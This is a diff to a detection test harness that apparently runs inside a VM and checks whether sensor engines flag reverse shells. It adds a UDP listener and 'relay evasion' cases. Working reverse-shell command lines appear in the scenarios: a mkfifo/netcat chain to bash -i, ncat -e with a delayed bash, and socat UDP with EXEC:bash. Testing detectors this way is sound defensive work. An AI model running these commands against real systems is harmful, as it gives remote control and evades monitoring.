@@ -6,7 +6,8 @@
  * (test/vm/vm.test.ts) asserts on the JSON, so a wrong observation fails there, visibly.
  */
 import { spawn } from "node:child_process";
-import { readFileSync } from "node:fs";
+import dgram from "node:dgram";
+import { readFileSync, writeFileSync } from "node:fs";
 import net from "node:net";
 import os from "node:os";
 import {
@@ -168,6 +169,36 @@ async function splitCommander(commands) {
   };
 }
 
+/**
+ * A loopback UDP listener for a relay whose client port is fixed (`sourceport=`): it sends the
+ * command to that port until the answer comes back from it, then "exit".
+ */
+async function udpCommander(clientPort) {
+  const sock = dgram.createSocket("udp4");
+  sock.on("error", () => {});
+  await /** @type {Promise<void>} */ (new Promise((resolve) => sock.bind(0, "127.0.0.1", () => resolve())));
+  let answered = false;
+  let got = "";
+  const timer = setInterval(() => sock.send("echo RELAY_$((6*7))\n", clientPort, "127.0.0.1"), 300);
+  sock.on("message", (msg, from) => {
+    if (from.port !== clientPort) return;
+    got += msg.toString();
+    if (!answered && got.includes("RELAY_42")) {
+      answered = true;
+      clearInterval(timer);
+      setTimeout(() => sock.send("exit\n", clientPort, "127.0.0.1"), 1500);
+    }
+  });
+  return {
+    port: sock.address().port,
+    answered: () => answered,
+    close: () => /** @type {Promise<void>} */ (new Promise((resolve) => {
+      clearInterval(timer);
+      sock.close(() => resolve());
+    })),
+  };
+}
+
 /** Runs a command to completion with a kill timer; stdio are node's pipes (AF_UNIX socketpairs, never inet). */
 function run(cmd, args, timeoutMs = 20_000) {
   return new Promise((resolve) => {
@@ -208,6 +239,7 @@ function summarize(f) {
     profile: f.sockeye?.profile ?? null,
     verdict: f.sockeye?.verdict ?? null,
     relay: f.sockeye?.relay ? { program: f.sockeye.relay.program?.name ?? null, remote: f.sockeye.relay.remote ?? null } : null,
+    transport: f.network?.transport ?? null,
   };
 }
 
@@ -246,8 +278,11 @@ async function main() {
   const findings = { precise: [], tracee: [] };
   const execs = [];
   const connects = [];
+  /** Pids whose exit record has reached the engines. */
+  const exited = new Set();
   sensor.subscribe((events) => {
     for (const e of events) {
+      if (e.kind === "exit") exited.add(e.task.pid);
       if (e.kind === "exec") execs.push({ pid: e.task.pid, filename: e.filename, args: e.args, stdio: e.stdio });
       if (e.kind === "connect")
         connects.push({ pid: e.task.pid, comm: e.task.comm, fd: e.fd, family: e.family, source: e.source, remote: e.remote, unixPath: e.unixPath, socketOnFds: e.socketOnFds });
@@ -271,6 +306,9 @@ async function main() {
     const started = Date.now();
     const [cmd, ...args] = build(l.port);
     const r = await run(cmd, args);
+    // Judged once the engines have the command's own exit (what the precise profile counts a
+    // held trigger by), however slow TCG delivers it; then the usual settle for the rest.
+    for (const until = Date.now() + 10_000; !exited.has(r.pid) && Date.now() < until; ) await sleep(50);
     await sleep(SETTLE_MS);
     await l.close();
     out.cases.push({
@@ -327,12 +365,12 @@ async function main() {
 
   // Relay shells (RELAY-001) and shells known by what they do (SHELL-001): the listener sends
   // commands and must get their output back.
-  async function relayScenario(name, build, expect = "RELAY-001", listener = commander) {
+  async function relayScenario(name, build, expect = "RELAY-001", listener = commander, timeoutMs = 15_000) {
     const l = await listener();
     const before = { precise: findings.precise.length, tracee: findings.tracee.length };
     const started = Date.now();
     const [cmd, ...args] = build(l.port);
-    const r = await run(cmd, args, 15_000);
+    const r = await run(cmd, args, timeoutMs);
     await sleep(SETTLE_MS);
     await l.close();
     out.cases.push({
@@ -347,6 +385,14 @@ async function main() {
   await relayScenario("relay-mkfifo-chain", (p) => [
     BASH, "-c", `F=/tmp/relay-${p}; rm -f $F; mkfifo $F; cat $F | bash -i 2>&1 | nc.traditional ${ip} ${p} > $F`,
   ]);
+
+  // Relay evasions (issue 26): the shell starts 11 s after the relay connected, past any
+  // window the rule once had; and a relay over a connected UDP socket.
+  writeFileSync("/tmp/relay-delayed.sh", "sleep 11; exec bash -i\n");
+  await relayScenario("relay-ncat-delayed", (p) => ["ncat", ip, String(p), "-e", `${BASH} /tmp/relay-delayed.sh`], "RELAY-001", commander, 40_000);
+  // The client's port is fixed so the listener knows where to send (any free one: the guest is alone).
+  const udpClientPort = 47_000 + Math.floor(Math.random() * 1000);
+  await relayScenario("relay-socat-udp", (p) => ["socat", `UDP:${ip}:${p},sourceport=${udpClientPort}`, `EXEC:${BASH}`], "RELAY-001", () => udpCommander(udpClientPort));
 
   // Two commands (busybox applets: each an exec) whose answers the listener waits for.
   const twoCommands = [["id", "uid="], ["uname -s", "Linux"]];
